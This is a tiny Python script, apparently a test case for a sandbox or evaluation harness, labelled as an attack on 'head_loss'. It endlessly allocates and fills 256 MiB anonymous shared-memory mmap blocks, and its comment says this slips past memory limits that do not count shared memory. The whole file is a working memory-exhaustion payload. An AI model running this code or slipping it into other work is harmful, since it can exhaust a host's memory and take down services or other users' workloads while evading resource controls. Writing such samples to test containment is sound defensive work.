# attacks: head_loss
# trick: takes shared memory, which some limits don't count
import mmap
held = []
while True:
    block = mmap.mmap(-1, 256 << 20)
    block.write(b"x" * (256 << 20))
    held.append(block)
